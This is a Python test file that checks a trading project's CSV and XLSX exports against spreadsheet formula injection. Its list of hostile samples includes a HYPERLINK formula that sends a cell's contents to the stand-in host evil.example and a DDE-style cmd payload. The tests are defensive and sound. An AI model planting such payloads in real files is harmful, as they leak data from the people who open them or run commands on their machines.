"""Exports cannot attack their reader: text that begins like a formula stays text in CSV
(an apostrophe before it, removed again on import) and in XLSX (a string cell, never a formula)."""

from __future__ import annotations

import csv
import io

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from trading.spreadsheets import FORMULA_STARTS, _csv_rows, csv_cell, write_rows

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1", "\r=1"]


def test_a_csv_export_makes_every_formula_looking_cell_text():
    data = write_rows("x.csv", ["项目名称"], [[title] for title in HOSTILE])
    text = data.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))[1:]
    assert [line[0] for line in lines] == ["'" + title for title in HOSTILE]


def test_an_xlsx_export_writes_formula_looking_text_as_strings():
    data = write_rows("x.xlsx", ["项目名称"], [[title] for title in HOSTILE])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [title.replace("\r", "\n") for title in HOSTILE]  # XML line ends
    assert all(cell.data_type == "s" for cell in cells)


@settings(database=None, max_examples=200)
@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@\t\r'a中1 ")), max_size=8), min_size=1, max_size=5))
def test_a_csv_export_reimports_exactly(values):
    data = write_rows("x.csv", ["a"] * len(values), [values])
    assert [cell.value for cell in list(_csv_rows(data))[1][1]] == values


def test_numbers_and_empty_cells_are_left_alone():
    assert csv_cell(-5) == -5 and csv_cell(None) == "" and csv_cell("济宁") == "济宁"
    assert all(csv_cell(start + "x").startswith("'") for start in FORMULA_STARTS)

